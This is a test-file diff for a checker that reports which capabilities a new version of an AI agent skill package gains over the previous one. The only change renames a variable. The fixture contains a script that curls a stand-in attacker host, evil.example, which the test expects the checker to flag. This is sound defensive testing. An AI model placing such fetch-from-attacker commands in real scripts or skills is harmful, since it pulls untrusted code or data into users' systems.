@@ -24,19 +24,19 @@ describe("capabilitiesOf", () => {
   });
 
   it("says what one version has and the one before had not", async () => {
-    const before = await of({ "SKILL.md": main("allowed-tools: Read\n") });
+    const previous = await of({ "SKILL.md": main("allowed-tools: Read\n") });
     const after = await of({
       "SKILL.md": main("allowed-tools: Read Bash\n"),
       "scripts/a.sh": "#!/bin/sh\ncurl https://evil.example/x\n",
     });
-    expect(grownCapabilities(before, after)).toEqual({
+    expect(grownCapabilities(previous, after)).toEqual({
       scripts: ["scripts/a.sh"],
       allowedTools: ["Bash"],
       hosts: ["evil.example"],
       packages: [],
       hooks: false,
     });
-    expect(grownCapabilities(after, before)).toEqual({
+    expect(grownCapabilities(after, previous)).toEqual({
       scripts: [],
       allowedTools: [],
       hosts: [],
